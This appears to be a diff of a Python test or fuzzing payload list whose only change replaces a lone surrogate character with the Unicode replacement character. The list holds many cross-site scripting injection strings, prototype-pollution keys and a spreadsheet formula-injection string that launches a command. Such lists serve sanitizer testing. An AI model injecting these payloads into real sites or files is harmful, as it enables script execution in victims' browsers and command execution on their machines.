@@ -34,7 +34,7 @@ PAYLOADS = [
     f"\u202e<script>{RUN}</script>\u202c", f"\u200f<img src=x onerror={RUN}>", f"<a href='data:text/html,<script>{RUN}</script>'>href</a>", f"<x onclick={RUN} href>",
     f"<img src=x:x onerror={RUN} href=y>", f"<isindex action=javascript:{RUN} type=image>", f"<table background=javascript:{RUN}>", "__proto__", "constructor",
     f"<SCRIPT SRC=data:,{RUN}></SCRIPT>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
-    f"<div style=\"background:url(javascript:{RUN})\">", f"<portal src=javascript:{RUN}>", "=cmd|'/C calc'!A0", "\ud800<b>",
+    f"<div style=\"background:url(javascript:{RUN})\">", f"<portal src=javascript:{RUN}>", "=cmd|'/C calc'!A0", "\ufffd<b>",
 ]
 
 
